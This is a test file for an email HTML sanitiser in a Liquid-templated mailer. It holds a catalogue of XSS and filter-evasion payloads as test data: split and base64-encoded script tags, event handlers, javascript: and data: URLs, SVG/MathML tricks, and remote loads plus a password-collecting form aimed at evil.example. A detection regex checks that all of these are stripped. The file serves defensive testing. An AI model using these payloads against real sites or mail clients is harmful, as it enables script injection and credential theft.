"""What may stand in a mail, whatever Liquid makes of a template (S8)."""

import re

import pytest

from mailers.press.cleaning import clean
from tests.mailers.writing import letter

BAD = {
    "script": "<script>alert(1)</script>",
    "split by a tag": "<scr{% if true %}ipt{% endif %}>alert(1)</script>",
    "in a literal": "{{ '<script>alert(1)</script>' }}",
    "put together": "{{ '<scr' | append: 'ipt>alert(1)</script>' }}",
    "captured": "{% capture x %}<script>{% endcapture %}{{ x }}alert(1)</script>",
    "raw": "{% raw %}<script>alert(1)</script>{% endraw %}",
    "decoded": "{{ 'PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==' | base64_decode }}",
    "handler": '<img src="https://x.example/a.png" onerror="alert(1)">',
    "handler without quotes": "<p/onmouseover=alert(1)>x</p>",
    "script address": '<a href="javascript:alert(1)">x</a>',
    "script address with blanks": '<a href=" java\tscript:alert(1)">x</a>',
    "script address in entities": '<a href="&#106;avascript&colon;alert(1)">x</a>',
    "data address": '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    "svg": '<svg onload="alert(1)"><script>alert(1)</script></svg>',
    "math": "<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>",
    "frame": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "object": '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">',
    "base": '<base href="https://evil.example/">',
    "refresh": '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    "style sheet": "<style>@import 'https://evil.example/x.css';</style>",
    "style": '<p style="background: url(https://evil.example/x)">x</p>',
    "style in escapes": '<p style="background: \\75rl(javascript:alert(1))">x</p>',
    "style of pictures": '<p style="background: image-set(\'https://evil.example/x\' 1x)">x</p>',
    "style of a source": '<p style="background: src(\'https://evil.example/x\')">x</p>',
    "style sheet's link": '<link rel="stylesheet" href="https://evil.example/x.css">',
    "ground": '<table background="https://evil.example/x"><tr><td>x</td></tr></table>',
    "pictures": '<img srcset="https://evil.example/x 2x"><picture><source srcset="//evil.example">',
    "address without a scheme": '<img src="//evil.example/x"><a href="//evil.example/">x</a>',
    "film": '<video poster="https://evil.example/x"><source src="https://evil.example/x"></video>',
    "prefetched": '<meta http-equiv="link" content="<https://evil.example>; rel=prefetch">',
    "vbscript": '<a href="vbscript:evil.example">x</a><a href="file:///evil.example">x</a>',
    "null in a tag": '<scr\0ipt>alert(1)</scr\0ipt><img src=x on\0error=alert(1)>',
    "form": '<form action="https://evil.example/"><input name="password"></form>',
    "comment": "<!--><script>alert(1)</script>-->",
    "conditional comment": "<!--[if mso]><script>alert(1)</script><![endif]-->",
    "cdata": "<![CDATA[<script>alert(1)</script>]]>",
    "half a tag": "<script",
    "template": "<template><script>alert(1)</script></template>",
    "out of the frame": "</td></tr></table></body></html><script>alert(1)</script>",
}
ACTIVE = re.compile(
    r"<(script|iframe|object|embed|svg|math|base|form|input|template)\b|evil\.example"
    r"|<[^>]*\son\w+=|(href|src)=\"\s*(java|data)|srcdoc|http-equiv=\"refresh", re.I)


@pytest.mark.parametrize("source", BAD.values(), ids=BAD.keys())
def test_nothing_active_gets_into_a_mail(source):
    written = letter(f"<p>before</p>{source}").html
    assert not ACTIVE.search(written), ACTIVE.search(written)
    assert "<p" in written and "before" in written


def test_the_frame_stands_whatever_tags_are_left_open_or_closed():
    written = letter("</table></body>" + "<table><tr><td>" * 3)
    assert written.html.count("<table") == written.html.count("</table>")
    assert written.html.rstrip().endswith("</html>")


@pytest.mark.parametrize("source", [
    '<p class="lead">a &amp; b &lt; c <bdi>x</bdi><br></p>',
    '<a href="https://acme.example/x?a=1&amp;b=2" target="_blank">x</a>',
    '<a href="mailto:a@b.example">x</a><a href="tel:+1">y</a>',
    '<img src="https://acme.example/logo.png" alt="Acme &quot;A&quot;" width="20">',
    '<td align="right" style="color: #123456; padding: 4px 8px">x</td>',
])
def test_what_mails_are_made_of_is_left_as_it_is(source):
    assert clean(source) == source
